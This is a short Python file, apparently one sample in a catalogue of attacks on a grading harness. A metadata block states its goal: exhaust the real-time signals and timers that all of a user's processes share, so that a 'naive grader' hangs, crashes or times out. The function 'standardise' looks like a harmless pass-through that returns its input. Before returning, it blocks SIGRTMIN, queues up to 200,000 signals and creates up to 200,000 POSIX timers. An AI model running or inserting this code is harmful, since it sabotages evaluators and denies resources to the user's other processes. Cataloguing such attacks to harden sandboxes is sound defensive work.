"""Queues real-time signals to itself and starts timers until the user has none left; others of the user need some, too."""
# /// attack
# class = 83
# goal = "use up the signals and timers that all processes of a user share"
# gain = "hang"
# outcome = ["failed", "crashed", "timeout"]
# naive = "A naive grader needs no queued signals; who else needs some is beyond it."
# ///

import ctypes
import signal
import struct

libc = ctypes.CDLL(None, use_errno=True)


def standardise(x):
    signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGRTMIN})
    for _ in range(200_000):
        if libc.sigqueue(libc.getpid(), int(signal.SIGRTMIN), ctypes.c_void_p(0)) != 0:
            break
    timer = ctypes.c_int()
    for _ in range(200_000):
        if libc.timer_create(1, struct.pack("<QiiQ32x", 0, int(signal.SIGRTMIN), 0, 0), ctypes.byref(timer)) != 0:
            break
    return x
